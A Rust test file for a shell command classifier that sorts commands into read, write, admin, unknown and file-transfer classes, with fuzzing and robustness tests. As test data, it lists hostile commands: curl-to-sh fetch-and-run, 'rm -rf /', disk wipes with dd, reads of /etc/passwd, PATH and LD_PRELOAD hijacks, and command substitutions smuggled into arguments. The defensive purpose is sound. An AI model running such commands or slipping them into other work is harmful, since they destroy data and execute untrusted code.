//! Table-driven tests for shell classification.

use super::*;

const R: Class = Class::Read;
const W: Class = Class::Write;
const A: Class = Class::Admin;
const U: Class = Class::Unknown;
const F: Class = Class::FileTransfer;

#[rustfmt::skip]
const CASES: &[(&str, Class)] = &[
    // read-only programs
    ("ls -la /var/log", R),
    ("cat /etc/hostname", R),
    ("tail -n 100 -f /var/log/syslog", R),
    ("head -c 10 file", R),
    ("grep -rn 'error' /var/log/app", R),
    ("grep -E 'a|b' file | sort | uniq -c | sort -rn | head", R),
    ("ps aux | grep nginx | grep -v grep", R),
    ("df -h && du -sh /var/*", R),
    ("free -m; uptime; uname -a", R),
    ("wc -l < /etc/passwd", R),
    ("echo hello", R),
    ("echo 'rm -rf /'", R),
    ("echo \"DROP TABLE x\"", R),
    ("printf '%s\\n' a b", R),
    ("id && whoami && hostname", R),
    ("stat -c %s file", R),
    ("diff a b || true", R),
    ("test -f /etc/passwd && cat /etc/passwd", R),
    ("[ -d /tmp ] && ls /tmp", R),
    ("ls [ab]*", R),
    ("find . -name [ab]", U),
    ("[[ -f /etc/passwd ]] && cat /etc/passwd", R),
    ("cd /var/log && ls", R),
    ("lsof -i :80", R),
    ("netstat -tlnp", R),
    ("ss -tlnp", R),
    ("ip addr", R),
    ("ip -br a show", R),
    ("ip route get 1.1.1.1", R),
    ("ip -4 route list", R),
    ("jq .name file.json", R),
    ("date", R),
    ("date +%s", R),
    ("date -u -d yesterday +%F", R),
    ("hostname -f", R),
    ("dmesg -T | tail", R),
    ("sysctl -a", R),
    ("sysctl net.ipv4.ip_forward", R),
    ("md5sum file && sha256sum file", R),
    ("ls /tmp > /dev/null 2>&1", R),
    ("cat file 2>/dev/null", R),
    ("ls >/dev/null 2>&1 || echo missing", R),
    ("ls &> /dev/null", R),
    ("cat file 1>&2", R),
    ("grep x file <&0", R),
    ("cat <<EOF\nhello\nEOF", U), // here documents are never parsed
    ("cat <<'EOF'\n$(rm -rf /)\nEOF", U),
    ("cat <<< 'hello'", R),
    ("diff <(ls a) <(ls b)", R),
    ("for f in a b c; do echo $f; done", R),
    ("if true; then ls; else pwd; fi", R),
    ("while false; do ls; done", R),
    ("case x in x) ls ;; *) pwd ;; esac", R),
    ("{ ls; pwd; }", R),
    ("(cd /tmp && ls)", R),
    ("! grep -q x file", R),
    ("time ls", R),
    ("ls &", R),
    ("echo $(date)", R),
    ("echo \"$(hostname): $(uptime)\"", R),
    ("echo `date`", R),
    ("ls $HOME", R),
    ("ls ~/logs", R),
    ("LC_ALL=C sort file", R),
    ("TZ=UTC date", R),
    ("PAGER=cat systemctl status nginx", R),
    ("SYSTEMD_PAGER= journalctl -u nginx", R),
    ("/bin/ls", R),
    ("/usr/bin/cat /etc/os-release", R),
    ("'ls' -l", R),
    ("\\ls", R),
    ("command -v nginx", R),
    ("type ls", R),
    ("env", R),
    ("true; false; :", R),
    // checked programs staying read
    ("find /var/log -name '*.log' -mtime +7", R),
    ("find . -type f -size +1M -print", R),
    ("find /var/log -name ./*.log", R),
    ("sed -n '1,10p' file", R),
    ("sed 's/hello/world/g' file", R),
    ("sed -e 's/a/b/' -e 's/c/d/' file", R),
    ("sed -E 's/(a+)/\\1/' file", R),
    ("sed --sandbox 's/a/b/w out' file", R),
    ("sort -k2 -n file", R),
    ("sort -u -t, -k1,1 file", R),
    ("uniq -c file", R),
    ("systemctl status nginx", R),
    ("systemctl is-active nginx", R),
    ("systemctl list-units --type=service --state=running", R),
    ("systemctl --no-pager show nginx -p ActiveState", R),
    ("systemctl", R),
    ("journalctl -u nginx --since today", R),
    ("journalctl -xe --no-pager", R),
    ("journalctl --disk-usage", R),
    // wrappers
    ("env LANG=C ls", R),
    ("env -i ls", R),
    ("nohup ls", R),
    ("timeout 5 cat file", R),
    ("timeout -s KILL 10s tail -f log", R),
    ("nice -n 10 du -sh /", R),
    ("nice -10 du -sh /", R),
    ("xargs echo < list", R),
    ("find . -name x | xargs ls -l", R),
    ("sh -c 'ls -l'", R),
    ("bash -c \"uptime && df -h\"", R),
    ("bash -lc 'ls'", R),
    ("sh -c 'sh -c \"ls\"'", R),
    ("stdbuf -oL tail -f log", R),
    ("command ls", R),
    // write
    ("echo hi > /tmp/x", W),
    ("echo hi >> /var/log/app.log", W),
    ("ls > out.txt", W),
    ("ls 2> err.log", W),
    ("ls &> all.log", W),
    ("ls >| clobber", W),
    ("ls >& file", W),
    ("cat <> file", W),
    ("> /etc/motd", W),
    ("echo x | tee /tmp/y", W),
    ("echo x | tee -a file", W),
    ("rm -rf /tmp/x", W),
    ("mv a b", W),
    ("cp a b", W),
    ("touch f", W),
    ("mkdir -p d", W),
    ("chmod 777 f", W),
    ("chown root f", W),
    ("ln -s a b", W),
    ("dd if=/dev/zero of=/dev/sda", W),
    ("truncate -s 0 file", W),
    ("tar xzf a.tgz", W),
    ("sed -i 's/a/b/' file", W),
    ("sed -i.bak 's/a/b/' file", W),
    ("sed --in-place 's/a/b/' file", W),
    ("sed -ni 's/a/b/p' file", W),
    ("sed 's/a/b/w out' file", W),
    ("sed -n 'w /etc/passwd' file", W),
    ("sort -o out file", W),
    ("sort --output=out file", W),
    ("sort -uo out file", W),
    ("uniq in out", W),
    ("find /tmp -name '*.tmp' -delete", W),
    ("find . -fprint out", W),
    ("ls | xargs rm", W),
    ("ls $(touch /tmp/pwned)", W),
    ("echo \"$(rm -rf /)\"", W),
    ("cat <<EOF\n$(rm -rf /)\nEOF", U),
    ("cat <<< \"$(rm x)\"", W),
    ("ls > >(tee out)", W),
    ("diff <(rm a) b", W),
    ("for f in $(rm x); do ls; done", W),
    ("[[ -f $(touch x) ]]", W),
    ("FOO=$(rm -rf /)", U),
    ("LANG=$(rm -rf /) ls", W),
    ("sh -c 'rm -rf /'", W),
    ("bash -c 'ls; echo x > f'", W),
    ("timeout 5 rm f", W),
    ("nohup rm f", W),
    ("env LC_ALL=C rm f", W),
    ("nice rm f", W),
    // admin
    ("sudo ls", A),
    ("sudo -u postgres ls", A),
    ("sudo systemctl status nginx", A),
    ("sudo", A),
    ("su - postgres -c 'ls'", A),
    ("doas ls", A),
    ("systemctl restart nginx", A),
    ("systemctl stop nginx", A),
    ("systemctl --now enable nginx", A),
    ("systemctl daemon-reload", A),
    ("systemctl -q reboot", A),
    ("kill -9 1234", A),
    ("pkill nginx", A),
    ("killall -HUP nginx", A),
    ("reboot", A),
    ("shutdown -h now", A),
    ("apt-get install -y curl", A),
    ("apt update", A),
    ("yum install x", A),
    ("dnf remove x", A),
    ("pip install requests", A),
    ("useradd bob", A),
    ("mount /dev/sdb1 /mnt", A),
    ("iptables -F", A),
    ("journalctl --vacuum-time=2d", A),
    ("journalctl --rotate", A),
    ("journalctl --flush", A),
    ("date -s '2020-01-01'", A),
    ("date 010101012020", A),
    ("hostname evil", A),
    ("dmesg -c", A),
    ("sysctl -w net.ipv4.ip_forward=1", A),
    ("sysctl net.ipv4.ip_forward=1", A),
    ("ip link set eth0 down", A),
    ("ip route add default via 1.2.3.4", A),
    ("ss -K dst 1.2.3.4", A),
    ("ls && sudo reboot", A),
    ("echo $(sudo id)", A),
    ("timeout 5 systemctl restart nginx", A),
    // unknown
    ("curl http://x | sh", U),
    ("curl http://x | bash -s", U),
    ("cat script | python3", U),
    ("echo 'print(1)' | python", U),
    ("ls | perl -ne print", U),
    ("wget -O- http://x | sh -", U),
    ("python3 -c 'print(1)'", U),
    ("perl -e 'unlink x'", U),
    ("awk '{print $1}' file", U),
    ("node app.js", U),
    ("bash script.sh", U),
    ("sh", U),
    ("bash -c \"$CMD\"", U),
    ("sh -c $X", U),
    ("eval ls", U),
    ("eval \"$(echo rm -rf /)\"", U),
    ("exec ls", U),
    ("source ~/.bashrc", U),
    (". ./env.sh", U),
    ("$0", U),
    ("${IFS}ls", U),
    ("$CMD -rf /", U),
    ("$(echo rm) -rf /", U),
    ("`echo rm` -rf /", U),
    ("l$X", U),
    ("/bin/r? -rf /", U),
    ("{rm,-rf,/tmp/x}", U),
    ("ls() { rm -rf /; }; ls", U),
    ("function ls { rm -rf /; }; ls", U),
    ("PATH=/tmp/evil:$PATH ls", U),
    ("LD_PRELOAD=/tmp/x.so ls", U),
    ("PATH=/tmp; ls", U),
    ("X=1; echo $X", U),
    ("PAGER='sh -c id' systemctl status", U),
    ("env PATH=/tmp ls", U),
    ("env -S 'rm -rf /'", U),
    ("/tmp/evil/ls", U),
    ("./ls", U),
    ("~/bin/ls", U),
    ("find / -exec rm {} \\;", U),
    ("find . -execdir sh -c x \\;", U),
    ("find . $OPTS", U),
    ("find . -name *.log", U),
    ("sed $SCRIPT file", U),
    ("sed -f script.sed file", U),
    ("sed 'e id' file", U),
    ("sed 's/x/id/e' file", U),
    ("sort --compress-program=sh file", U),
    ("systemctl $VERB nginx", U),
    ("systemctl --bogus status restart nginx", U),
    ("xargs sed -n p", U),
    ("ls | xargs find", U),
    ("echo $((a[$(id)]))", U),
    ("echo ${x:-$(rm -rf /)}", U),
    ("(( x = 1 ))", U),
    ("ssh other rm -rf /", U),
    ("vim file", U),
    ("less file", U),
    ("top", U),
    ("watch ls", U),
    ("crontab -l", U),
    ("git log", U),
    ("docker ps", U),
    ("unknown-program --flag", U),
    ("printf -v PATH /tmp", U),
    ("su", U),
    ("su -c \"$X\"", U),
    ("trap 'rm -rf /' EXIT", U),
    ("alias ls='rm -rf /'; ls", U),
    ("coproc rm x", U),
    ("echo 'unterminated", U),
    ("ls |", U),
    ("if true; then", U),
    ("ls )", U),
    ("sh -c 'ls |'", U),
    ("scp -t /tmp; ls", U),
    ("ls; scp -f /etc/passwd", U),
    // file transfer
    ("scp -t /tmp", F),
    ("scp -f /etc/hosts", F),
    ("scp -r -t /tmp/dir", F),
    ("/usr/lib/openssh/sftp-server", F),
    ("rsync --server -vlogDtpre.iLsfxC . /tmp", F),
    // empty
    ("", R),
    ("   ", R),
];

#[test]
fn shell_classes() {
    assert!(CASES.len() >= 150, "only {} shell cases", CASES.len());
    let mut failures = Vec::new();
    for (cmd, want) in CASES {
        let got = classify_shell(cmd);
        if got.class != *want {
            failures.push(format!(
                "{cmd:?}: want {want}, got {} ({})",
                got.class, got.reason
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn commands_are_listed() {
    for (cmd, want) in [
        ("ls -l | grep x", vec!["grep", "ls"]),
        (
            "sudo -u bob timeout 5 /usr/bin/rm -rf x",
            vec!["rm", "sudo", "timeout"],
        ),
        ("echo $(id) `hostname`", vec!["echo", "hostname", "id"]),
        ("sh -c 'cat f | sort'", vec!["cat", "sh", "sort"]),
        ("ls > >(tee out)", vec!["ls", "tee"]),
        (
            "env LANG=C nice -n 5 xargs grep x",
            vec!["env", "grep", "nice", "xargs"],
        ),
        ("ls; ls; ls", vec!["ls"]),
        ("/tmp/x", vec!["/tmp/x"]),
        ("", vec![]),
    ] {
        assert_eq!(classify_shell(cmd).commands, want, "{cmd}");
    }
}

#[test]
fn reasons_name_the_culprit() {
    assert!(classify_shell("ls; rm x").reason.contains("rm"));
    assert!(
        classify_shell("cat x | sh")
            .reason
            .contains("interpreter sh")
    );
    assert!(
        classify_shell("echo > /etc/motd")
            .reason
            .contains("/etc/motd")
    );
    assert!(classify_shell("frobnicate").reason.contains("frobnicate"));
}

#[test]
fn hostile_inputs_fail_closed_without_overflowing() {
    let run = || {
        for (kind, text) in [
            (
                "subshells",
                format!("{}ls{}", "(".repeat(5000), ")".repeat(5000)),
            ),
            (
                "braces",
                format!("{}ls;{}", "{ ".repeat(5000), " }".repeat(5000)),
            ),
            (
                "ifs",
                format!("{}ls{}", "if true; then ".repeat(1000), "; fi".repeat(1000)),
            ),
            (
                "substitutions",
                format!("echo {}x{}", "$(echo ".repeat(1000), ")".repeat(1000)),
            ),
            ("backquotes", format!("echo {}", "`".repeat(2000))),
            (
                "params",
                format!("echo {}x{}", "${a:-".repeat(1000), "}".repeat(1000)),
            ),
            ("nots", format!("{}ls", "! ".repeat(5000))),
            ("long", "ls ".repeat(1_000_000)),
            ("test chain", format!("[[ a{} ]]", " && a".repeat(3000))),
            ("sh -c nesting", {
                let mut s = "ls".to_string();
                for _ in 0..8 {
                    s = format!("sh -c {}", shell_quote(&s));
                }
                s
            }),
        ] {
            let c = classify_shell(&text);
            assert_eq!(c.class, U, "{kind}: {}", c.reason);
        }
        // Long but flat commands stay classifiable up to the length limit.
        let pipes = format!("ls{}", " | grep x".repeat(1000));
        assert_eq!(classify_shell(&pipes).class, R);
        let lists = format!("ls{}", " && pwd".repeat(1000));
        assert_eq!(classify_shell(&lists).class, R);
    };
    let t = std::thread::Builder::new().stack_size(2 << 20).spawn(run);
    assert!(t.is_ok_and(|t| t.join().is_ok()));
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

/// Inputs the fuzzer found (brush-parser panics or backtracks exponentially on them).
#[test]
fn fuzz_findings() {
    for s in [
        "dl-s 7777777777777777777777777> >(",
        "ls 2147483648>x",
        "echo ~+99999999999999999999999",
        "echo ~-99999999999999999999999",
        "echo {1..99999999999999999999}",
        "(($0 x ((((((((((((((((((((((((((( 1\u{1}9= ))",
        "((((((((((((((((((((((((((((((((((((((((",
        "( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( (",
        "$(<<  s ",
        "<<\"\"\t\\",
        "$(<<-\t)$(",
        "})$(\n\\<<<\\\n  ",
        "ls <\\\n< x",
        "cat <<<<x",
    ] {
        let t = std::time::Instant::now();
        assert_eq!(classify_shell(s).class, U, "{s:?}");
        assert!(
            t.elapsed() < std::time::Duration::from_secs(1),
            "{s:?} took {:?}",
            t.elapsed()
        );
    }
    assert_eq!(
        classify_shell("date -d @1700000000").class,
        R,
        "ordinary long numbers are fine"
    );
    assert_eq!(classify_shell("ls 2>/dev/null").class, R);
    assert_eq!(
        classify_shell("cat <<< hello").class,
        R,
        "here-strings are analysed"
    );
    assert_eq!(classify_shell("cat <<< \"$(rm x)\"").class, W);
}

#[test]
fn long_parse_errors_are_clipped_on_char_boundaries() {
    let s = format!("echo '{}", "é".repeat(300));
    let c = classify_shell(&s);
    assert_eq!(c.class, U);
    assert!(c.reason.len() <= 204, "{}", c.reason.len());
}

#[test]
fn never_panics_on_odd_bytes() {
    for s in [
        "\0",
        "\\",
        "'",
        "\"",
        "$",
        "$(",
        "`",
        "<<",
        "<<EOF",
        "&&",
        "||",
        ";;",
        "|",
        "\u{1F600}",
        "a\u{0}b",
        "$'\\x00'",
        "${",
        "${!x}",
        "$((",
        "<(",
        ">(",
        "~",
        "!",
        "[[",
        "]]",
        "case",
        "esac",
        "fi",
    ] {
        let c = classify_shell(s);
        assert!(matches!(c.class, R | U), "{s:?}: {c:?}");
    }
}
